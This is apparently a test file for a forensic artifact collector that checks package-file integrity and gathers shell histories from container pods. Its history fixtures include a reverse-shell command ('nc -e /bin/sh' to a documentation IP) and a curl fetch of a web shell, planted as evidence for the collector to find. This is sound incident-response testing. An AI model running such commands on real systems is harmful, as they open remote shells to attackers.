/**
 * The coverage items as the collector runs them (through the door, into the bundle): installed-file
 * integrity, and what happens when its execs are cut or its caps are reached. Never `complete`
 * for what was not read whole.
 */
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { ArtifactCollector, type ProfileSpecInput, type TargetReport } from '../../src/collect/index.js';
import type { SandboxEntry, SandboxPath } from '../../src/testing/sandbox/index.js';
import { skipWithoutPeer } from '../support/peers.js';
import { addSandboxPod, bundleJson, bundleText, collectedFile, sandboxMissing, useEnv } from './support.js';

const skip = skipWithoutPeer('bwrap', sandboxMissing());
const md5 = (s: string) => createHash('md5').update(s).digest('hex');
const sha256 = (s: string) => createHash('sha256').update(s).digest('hex');

const ORIGINAL_PS = '\x7fELF original procps ps\n';
const TROJAN_PS = '\x7fELF ps that hides the miner\n';
const TOP = `\x7fELF top ${'t'.repeat(300_000)}\n`;

type FileList = (SandboxEntry & { path: SandboxPath })[];

const DB: FileList = [
  {
    path: '/var/lib/dpkg/status',
    content: 'Package: procps\nStatus: install ok installed\nVersion: 2:4.0.2-3\n',
  },
  {
    path: '/var/lib/dpkg/info/procps.md5sums',
    content: `${md5(ORIGINAL_PS)}  usr/bin/ps\n${md5(TOP)}  usr/bin/top\n${md5('x')}  usr/bin/pgrep\n`,
  },
  { path: '/usr/bin/ps', content: TROJAN_PS, mode: 0o755 },
  { path: '/usr/bin/top', content: TOP, mode: 0o755 },
  { path: '/usr/local/bin/.dropper', content: '#!/bin/sh\necho hi\n', mode: 0o755 },
];

const integrity = (extra: Record<string, unknown> = {}): ProfileSpecInput => ({
  name: 'integrity',
  description: 'installed-file integrity only',
  items: [{ id: 'integrity', kind: 'integrity', dirs: ['/usr/bin', '/usr/local/bin'], ...extra }],
});

interface IntegrityDoc {
  status: string;
  reasons: string[];
  rows: { path: string; verdict: string; sha256?: string }[];
  counts: Record<string, number>;
  findings: { path?: string; severity: string; kind: string }[];
}

interface Row {
  path: string;
  status: string;
  reason?: string;
}

describe.skipIf(skip)('coverage items in the collector', () => {
  const env = useEnv();

  async function acquire(
    files: FileList,
    profile: ProfileSpecInput,
  ): Promise<{ r: TargetReport; rows: Row[] }> {
    const t = await addSandboxPod(env, { preset: 'busybox', files }, { command: ['sleep', '86400'] });
    const c = new ArtifactCollector({ sink: env.sink, profiles: [profile] });
    const r = (await c.acquire({ kube: env.kube, ...t })).targets[0] as TargetReport;
    const rows = bundleJson<{ artifacts: Row[] }>(r.location as string, 'manifest.json').artifacts;
    return { r, rows };
  }

  it('integrity: a replaced ps is modified, a deleted file missing, a dropper unpackaged; the report is complete', async () => {
    const { r, rows } = await acquire(DB, integrity());
    const row = rows.find((a) => a.path === 'containers/app/files/integrity.json');
    expect(row?.status, row?.reason).toBe('complete');
    const doc = bundleJson<IntegrityDoc>(r.location as string, 'containers/app/files/integrity.json');
    const v = Object.fromEntries(doc.rows.map((x) => [x.path, x.verdict]));
    expect(v['/usr/bin/ps']).toBe('modified');
    expect(v['/usr/bin/pgrep']).toBe('missing');
    expect(v['/usr/local/bin/.dropper']).toBe('unpackaged-executable');
    expect(doc.counts.ok).toBe(1);
    expect(doc.rows.find((x) => x.path === '/usr/bin/ps')?.sha256).toBe(sha256(TROJAN_PS));
    expect(doc.findings.find((f) => f.path === '/usr/bin/ps')?.severity).toBe('high');
    expect(r.status, JSON.stringify(r.reasons)).toBe('complete');
  }, 60_000);

  it('integrity: a pull cut inside a file (clean exit 0) is truncated and that file is not-checked, never ok', async () => {
    const cut: FileList[number] = {
      path: '/usr/local/bin/sh',
      // the pull of the files runs the real script, but only 1000 bytes of its output arrive
      content:
        '#!/bin/busybox sh\nif [ "$3" = eksf-run ] && [ "$8" = eksf-pull ]; then /bin/busybox sh "$@" | /bin/busybox head -c 1000; exit 0; fi\nexec /bin/busybox sh "$@"\n',
      mode: 0o755,
    };
    const { r, rows } = await acquire([...DB, cut], integrity());
    const row = rows.find((a) => a.path === 'containers/app/files/integrity.json');
    expect(row?.status).toBe('truncated');
    const doc = bundleJson<IntegrityDoc>(r.location as string, 'containers/app/files/integrity.json');
    expect(doc.counts.ok ?? 0).toBe(0);
    expect(doc.rows.find((x) => x.path === '/usr/bin/top')?.verdict).toBe('not-checked');
    expect(r.status).toBe('partial');
  }, 60_000);

  it('integrity: over its byte budget the report is truncated and says which files were left out', async () => {
    const { r, rows } = await acquire(DB, integrity({ maxPullBytes: 1024 }));
    const row = rows.find((a) => a.path === 'containers/app/files/integrity.json');
    expect(row?.status).toBe('truncated');
    expect(row?.reason).toMatch(/cap|budget/);
    const doc = bundleJson<IntegrityDoc>(r.location as string, 'containers/app/files/integrity.json');
    expect(doc.rows.find((x) => x.path === '/usr/bin/top')?.verdict).not.toBe('ok');
  }, 60_000);
  const history: ProfileSpecInput = {
    name: 'history',
    description: 'histories of every home',
    items: [
      {
        id: 'hist',
        kind: 'file',
        paths: ['/root/.ash_history'],
        homeFiles: ['.bash_history', '.config/x/hist'],
      },
    ],
  };

  it('history: every home in /etc/passwd is searched, not only /root and /home', async () => {
    const { r } = await acquire(
      [
        {
          path: '/etc/passwd',
          content:
            'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www:/var/www:/usr/sbin/nologin\nsvc:x:900:900::/srv/svc:/bin/sh\nodd:x:901:901::/srv/*:/bin/sh\nbad:x:902:902::/proc/self:/bin/sh\n',
        },
        { path: '/root/.ash_history', content: 'id\n' },
        { path: '/var/www/.bash_history', content: 'curl http://203.0.113.7/shell.php\n' },
        { path: '/srv/svc/.config/x/hist', content: 'nc -e /bin/sh 203.0.113.7 4444\n' },
        { path: '/srv/other/.bash_history', content: 'not a home\n' },
      ],
      history,
    );
    const loc = r.location as string;
    expect((await collectedFile(loc, '/var/www/.bash_history'))?.toString()).toContain('shell.php');
    expect((await collectedFile(loc, '/srv/svc/.config/x/hist'))?.toString()).toContain('nc -e');
    expect(await collectedFile(loc, '/srv/other/.bash_history')).toBeUndefined();
    // the glob home and the /proc home are left out (logged), which is nothing that could have been searched
    expect(r.status, r.reasons.join('; ')).toBe('complete');
  }, 60_000);

  it('history: a passwd over its cap is not parsed as if whole: recorded, and the own paths still collected', async () => {
    const { r } = await acquire(
      [
        {
          path: '/etc/passwd',
          content: Array.from(
            { length: 80_000 },
            (_, i) => `u${i}:x:${1000 + i}:100::/srv/h${i}:/bin/sh\n`,
          ).join(''),
        },
        { path: '/root/.ash_history', content: 'id\n' },
      ],
      history,
    );
    expect((await collectedFile(r.location as string, '/root/.ash_history'))?.toString()).toBe('id\n');
    expect(r.status).toBe('partial');
    expect(r.reasons.join(' ')).toMatch(/home directories from \/etc\/passwd/);
  }, 60_000);
  it('hundreds of pinned paths are listed in several execs that fit the argv limit, every root complete', async () => {
    const names = Array.from({ length: 400 }, (_, i) => `/srv/pinned/${'d'.repeat(40)}-${i}/.bash_history`);
    const profile: ProfileSpecInput = {
      name: 'pinned',
      description: 'many exact paths',
      items: [
        { id: 'a', kind: 'file', paths: names.slice(0, 200), content: 'metadata' },
        { id: 'b', kind: 'file', paths: names.slice(200), content: 'metadata' },
      ],
    };
    const { r, rows } = await acquire([{ path: names[399] as SandboxPath, content: 'last\n' }], profile);
    const listings = rows.filter((a) => /files\/listing\//.test(a.path));
    expect(listings.length).toBeGreaterThan(1);
    for (const l of listings) expect(l.status, l.reason).toBe('complete');
    expect(r.status, r.reasons.join('; ')).toBe('complete');
    expect(bundleText(r.location as string, 'containers/app/files/bodyfile.txt')).toContain(names[399]);
  }, 60_000);
});
